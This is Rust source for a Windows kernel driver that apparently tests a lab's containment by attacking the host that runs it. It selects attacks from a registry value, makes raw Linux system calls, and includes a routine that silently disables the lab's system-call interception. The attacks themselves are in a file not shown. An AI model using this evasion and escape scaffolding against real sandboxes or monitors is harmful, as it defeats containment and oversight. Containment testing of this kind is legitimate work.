//! A driver that attacks the machine that runs the lab.
//!
//! The REG_DWORD `Attack` under its `Parameters` chooses the attack by its position in
//! [`ATTACKS`]. DriverEntry returns 0 if it has succeeded, and a status with the error
//! of the host's kernel if not: 0xE0000000 plus the number. Most attackers make their
//! system calls themselves. With `Informed` 1 they first switch off what catches them,
//! as one can who has read the lab's source.
#![no_std]
#![allow(non_snake_case, reason = "names of the NT API")]

use core::arch::asm;
use core::hint::black_box;
use core::panic::PanicInfo;

#[path = "attacker/attacks.rs"]
mod attacks;

use attacks::ATTACKS;

type Ptr = usize;

#[link(name = "ntoskrnl.exe", kind = "raw-dylib", modifiers = "+verbatim")]
unsafe extern "system" {
    fn ExAllocatePool2(flags: u64, size: usize, tag: u32) -> Ptr;
    fn IoOpenDriverRegistryKey(driver: Ptr, kind: i32, access: u32, flags: u32, key: Ptr) -> i32;
    fn KeGetCurrentIrql() -> u8;
    fn ZwClose(handle: Ptr) -> i32;
    fn ZwQueryValueKey(key: Ptr, name: Ptr, class: i32, information: Ptr, length: u32, result: Ptr) -> i32;
    // The compiler calls it.
    #[allow(dead_code)]
    fn memset(to: Ptr, byte: i32, count: usize) -> Ptr;
}

#[unsafe(no_mangle)]
pub unsafe extern "system" fn DriverEntry(driver: Ptr, _: Ptr) -> i32 {
    unsafe {
        // DRIVER_OBJECT.DriverUnload.
        ((driver + 104) as *mut Ptr).write(unload as *const () as Ptr);
        let mut key: Ptr = 0;
        IoOpenDriverRegistryKey(driver, 0, 0x20019, 0, &raw mut key as Ptr);
        let attack = value(key, b"Attack");
        let informed = value(key, b"Informed");
        let port = value(key, b"Port");
        ZwClose(key);
        if informed == Some(1) {
            uncatch();
        }
        let Some(attack) = attack.and_then(|number| ATTACKS.get(number as usize)) else { return 0 };
        match attack(port.unwrap_or(0) as u16) {
            Ok(()) => 0,
            Err(error) => (0xE000_0000 + error as u32) as i32,
        }
    }
}

extern "system" fn unload(_: Ptr) {}

/// Opens the byte that says whether system calls of this thread are caught. It is in
/// the control page of the kernel stack's block.
unsafe fn uncatch() {
    const BLOCK: u64 = 0x1_0000;
    const SELECTOR: u64 = 44;
    unsafe {
        let stack: u64;
        asm!("mov {}, rsp", out(reg) stack);
        (((stack & !(BLOCK - 1)) + SELECTOR) as *mut u8).write_volatile(0);
    }
}

/// Reads a REG_DWORD.
unsafe fn value(key: Ptr, name: &[u8]) -> Option<u32> {
    let mut wide = [0u16; 16];
    for (to, from) in wide.iter_mut().zip(name) {
        *to = u16::from(*from);
    }
    let length = 2 * name.len() as u16;
    #[repr(C)]
    struct UnicodeString([u16; 2], Ptr);
    let string = UnicodeString([length, length], wide.as_ptr() as Ptr);
    // KEY_VALUE_PARTIAL_INFORMATION: index, type, length, data.
    let mut information = [0u32; 4];
    let mut length = 0u32;
    let (string, to) = (&raw const string as Ptr, &raw mut information as Ptr);
    let status = unsafe { ZwQueryValueKey(key, string, 2, to, 16, &raw mut length as Ptr) };
    (status == 0).then_some(information[3])
}

/// A system call of Linux. `Err` is the error's number.
unsafe fn call(number: u64, arguments: [u64; 6]) -> Result<u64, i64> {
    let [a, b, c, d, e, f] = arguments;
    let result: i64;
    unsafe {
        asm!(
            "syscall",
            inout("rax") number as i64 => result,
            in("rdi") a, in("rsi") b, in("rdx") c, in("r10") d, in("r8") e, in("r9") f,
            out("rcx") _, out("r11") _,
        );
    }
    if result < 0 { Err(-result) } else { Ok(result as u64) }
}

#[panic_handler]
fn panic(_: &PanicInfo<'_>) -> ! {
    loop {
        black_box(());
    }
}
